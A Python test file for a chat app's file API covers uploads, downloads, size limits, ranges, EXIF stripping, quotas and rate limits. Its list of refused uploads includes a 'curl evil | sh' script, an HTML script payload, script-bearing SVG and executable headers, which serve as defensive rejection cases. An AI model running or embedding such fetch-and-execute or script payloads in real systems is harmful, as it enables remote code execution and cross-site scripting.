"""Uploads and downloads through HTTP: round trips, limits, ranges, refusals, races."""

from __future__ import annotations

import hashlib
from pathlib import Path

from tests.files.conftest import MIB, FilesApi, pdf
from tests.files.images import SVG_WITH_SCRIPT, has_metadata, jpeg_with_exif


async def test_round_trip_small_and_multi_mib(files: FilesApi) -> None:
    space = await files.space(members=1)
    member = space.members[0]
    for data in (pdf(1000), pdf(3 * MIB - 7, seed=1)):
        r = await files.upload(member, space.channel_id, data, "report.pdf")
        assert r.status_code == 201, r.text
        meta = r.json()
        assert meta["sha256"] == hashlib.sha256(data).hexdigest()
        assert (meta["size_bytes"], meta["content_type"], meta["encrypted"]) == (
            len(data), "application/pdf", False)
        assert meta["channel_id"] == space.channel_id
        assert meta["filename"] == "report.pdf"
        assert meta["position"]
        got = await files.download(space.owner, meta["id"])
        assert got.status_code == 200
        assert got.content == data
        assert got.headers["content-type"] == "application/pdf"
        assert got.headers["content-disposition"].startswith("attachment;")
        assert got.headers["x-content-type-options"] == "nosniff"
        assert got.headers["accept-ranges"] == "bytes"
        assert got.headers["content-length"] == str(len(data))
        r = await files.client.get(f"/api/files/{meta['id']}/meta", headers={
            **member.auth, "Chatalot-Min-Position": meta["position"]})
        assert r.status_code == 200, r.text
        assert r.json() == meta


async def test_exactly_at_the_limit_and_one_byte_over(files: FilesApi) -> None:
    space = await files.space(members=1)
    member = space.members[0]
    r = await files.upload(member, space.channel_id, pdf(3 * MIB))
    assert r.status_code == 201, r.text
    blobs = files.blob_count()
    r = await files.upload(member, space.channel_id, pdf(3 * MIB + 1, seed=2))
    assert r.status_code == 413, r.text
    assert r.json()["code"] == "too_large"
    assert files.blob_count() == blobs
    staging = Path(files.api.settings.data_dir) / "files" / "staging"
    assert list(staging.iterdir()) == []


async def test_ranges(files: FilesApi) -> None:
    space = await files.space(members=1)
    data = pdf(5000)
    stored = await files.stored(space.owner, space.channel_id, data)
    user = space.members[0]
    r = await files.download(user, stored.id, range="bytes=10-19")
    assert (r.status_code, r.content) == (206, data[10:20])
    assert r.headers["content-range"] == "bytes 10-19/5000"
    r = await files.download(user, stored.id, range="bytes=-100")
    assert (r.status_code, r.content) == (206, data[-100:])
    r = await files.download(user, stored.id, range="bytes=4990-")
    assert (r.status_code, r.content) == (206, data[4990:])
    r = await files.download(user, stored.id, range="bytes=5000-")
    assert r.status_code == 416
    assert r.headers["content-range"] == "bytes */5000"
    r = await files.download(user, stored.id, range="bytes=0-1,4-5")
    assert (r.status_code, r.content) == (200, data)


async def test_the_same_content_is_stored_once(files: FilesApi) -> None:
    space = await files.space(members=1)
    data = pdf(20_000, seed=3)
    first = await files.stored(space.owner, space.channel_id, data)
    second = await files.stored(space.members[0], space.channel_id, data)
    assert first.id != second.id
    assert first.body["sha256"] == second.body["sha256"]
    assert files.blob_count() == 1


REFUSED = [
    (b"\x00\x01\x02\x03binary of no known type" * 10, "data.bin"),
    (b"MZ\x90\x00\x03\x00\x00\x00" + bytes(300), "setup.exe"),
    (b"\x7fELF\x02\x01\x01\x00" + bytes(300), "tool"),
    (b"#!/bin/sh\ncurl evil | sh\n", "install.txt"),
    (SVG_WITH_SCRIPT, "cat.svg"),
    (SVG_WITH_SCRIPT, "cat.png"),
    (b"<html><script>alert(1)</script></html>", "page.txt"),
    (b"%PDF-1.7 but named as a script", "run.ps1"),
]


async def test_refused_types(files: FilesApi) -> None:
    """Magic bytes off the allowlist, executables, scripts (by name and by `#!`), SVG
    with script (by name and by content), HTML: 400, and nothing stored."""
    space = await files.space(members=1)
    for data, name in REFUSED:
        r = await files.upload(space.members[0], space.channel_id, data, name)
        assert r.status_code == 400, (name, r.text)
        assert r.json()["code"] == "bad_request"
    assert files.blob_count() == 0
    staging = Path(files.api.settings.data_dir) / "files" / "staging"
    assert list(staging.iterdir()) == []


async def test_exif_is_really_gone_and_a_thumbnail_is_served(files: FilesApi) -> None:
    space = await files.space(members=1)
    original = jpeg_with_exif((640, 480))
    assert has_metadata(original)
    stored = await files.stored(space.members[0], space.channel_id, original, "me.jpg")
    assert stored.body["content_type"] == "image/jpeg"
    assert stored.body["sha256"] != hashlib.sha256(original).hexdigest()
    r = await files.download(space.owner, stored.id)
    assert r.status_code == 200
    assert r.headers["content-disposition"].startswith("inline;")
    assert has_metadata(r.content) == []
    assert hashlib.sha256(r.content).hexdigest() == stored.body["sha256"]
    thumb = await files.client.get(f"/api/files/{stored.id}/thumb", headers=space.owner.auth)
    assert thumb.status_code == 200
    assert thumb.headers["content-type"] == "image/webp"
    assert thumb.content[8:12] == b"WEBP"


async def test_bad_forms(files: FilesApi) -> None:
    space = await files.space(members=1)
    user = space.members[0]
    post = files.client.post
    cases = [
        {"data": {"channel_id": "nope"}, "files": {"file": ("a.pdf", pdf(10))}},
        {"data": {}, "files": {"file": ("a.pdf", pdf(10))}},
        {"data": {"channel_id": space.channel_id, "extra": "x"},
         "files": {"file": ("a.pdf", pdf(10))}},
        {"data": {"channel_id": space.channel_id, "encrypted": "maybe"},
         "files": {"file": ("a.pdf", pdf(10))}},
        {"data": {"channel_id": space.channel_id}},
        {"json": {"channel_id": space.channel_id}},
        {"data": {"channel_id": space.channel_id},
         "files": {"file": ("x" * 513 + ".pdf", pdf(10))}},
    ]
    for kwargs in cases:
        r = await post("/api/files/upload", headers=user.auth, **kwargs)
        assert r.status_code == 400, (kwargs.keys(), r.text)
        assert r.json()["code"] == "bad_request"
    r = await post("/api/files/upload", content=b"--x\r\nbroken", headers={
        **user.auth, "content-type": "multipart/form-data; boundary=x"})
    assert r.status_code == 400
    r = await post("/api/files/upload", files={"file": ("a.pdf", pdf(10))})
    assert r.status_code == 401


async def test_quota_is_exact_under_concurrent_uploads(files: FilesApi) -> None:
    """8 MiB of quota, seven 2 MiB uploads at once: exactly four are stored."""
    space = await files.space(members=1)
    user = space.members[0]
    replies = await files.api.concurrently(*(
        ("POST", "/api/files/upload",
         {"headers": user.auth, **files.form(space.channel_id, pdf(2 * MIB, seed=10 + i))})
        for i in range(7)))
    statuses = sorted(r.status_code for r in replies)
    assert statuses == [201] * 4 + [422] * 3, [r.text for r in replies]
    assert {r.json()["code"] for r in replies if r.status_code == 422} == {"limit_reached"}
    rows = await files.api.db.fetch(
        "SELECT bytes_used FROM file_usage WHERE user_id = %s", (user.id,))
    assert rows == [(8 * MIB,)]


async def test_rate_is_exact_under_concurrent_uploads(files: FilesApi) -> None:
    """10 uploads a minute: of 13 sent at once, exactly 10 are stored; a minute later
    uploads are accepted again."""
    space = await files.space(members=1)
    user = space.members[0]
    replies = await files.api.concurrently(*(
        ("POST", "/api/files/upload",
         {"headers": user.auth, **files.form(space.channel_id, pdf(100, seed=100 + i))})
        for i in range(13)))
    statuses = sorted(r.status_code for r in replies)
    assert statuses == [201] * 10 + [429] * 3, [r.text for r in replies]
    limited = next(r for r in replies if r.status_code == 429)
    assert limited.json()["code"] == "rate_limited"
    assert 1 <= int(limited.headers["retry-after"]) <= 60
    files.api.clock.advance(61)
    r = await files.upload(user, space.channel_id, pdf(100, seed=999))
    assert r.status_code == 201, r.text


async def test_over_the_quota_is_refused_before_the_bytes(files: FilesApi) -> None:
    """Fields first and a Content-Length the quota cannot hold: 422 as the file part
    starts. The body here never ends its file part: read to its end it would be a 400."""
    space = await files.space(members=1)
    user = space.members[0]
    for seed in range(3):  # 6 of the 8 MiB
        await files.stored(user, space.channel_id, pdf(2 * MIB, seed=seed))
    body = (b"--b\r\nContent-Disposition: form-data; name=\"channel_id\"\r\n\r\n"
            + space.channel_id.encode() + b"\r\n--b\r\nContent-Disposition: form-data;"
            b" name=\"file\"; filename=\"big.pdf\"\r\n\r\n" + pdf(3 * MIB, seed=9))
    headers = {**user.auth, "content-type": "multipart/form-data; boundary=b"}
    r = await files.client.post("/api/files/upload", content=body, headers=headers)
    assert (r.status_code, r.json()["code"]) == (422, "limit_reached")
    small = body[: len(body) - 2 * MIB]  # room in the quota: read to its broken end
    r = await files.client.post("/api/files/upload", content=small, headers=headers)
    assert r.status_code == 400
    staging = Path(files.api.settings.data_dir) / "files" / "staging"
    assert list(staging.iterdir()) == []
